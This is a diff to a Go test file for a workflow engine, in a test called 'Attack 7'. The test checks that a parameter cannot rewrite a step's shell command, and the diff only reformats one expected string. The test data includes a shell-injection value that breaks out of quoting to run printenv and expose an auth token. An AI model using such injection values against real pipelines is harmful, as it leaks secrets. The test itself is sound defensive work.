@@ -93,7 +93,8 @@ var _ = Describe("Attack 7: a param or an output rewrites a step's program", fun
 
 		c := stepContainer("r", "greet")
 		// $$ is the kubelet's escape for $: the container sees the value as it was sent.
-		Expect(c.Args[4]).To(Equal(`curl -H "Authorization: $ERGON_PARAM_token" https://x.example/'$$(ERGON_PARAM_token)'\''; printenv; '\''' > "$ERGON_OUTPUT"`))
+		Expect(c.Args[4]).To(Equal(`curl -H "Authorization: $ERGON_PARAM_token" ` +
+			`https://x.example/'$$(ERGON_PARAM_token)'\''; printenv; '\''' > "$ERGON_OUTPUT"`))
 		Expect(envOf(c, "ERGON_PARAM_who")).To(HaveField("Value", `$$(ERGON_PARAM_token)'; printenv; '`))
 	})
 
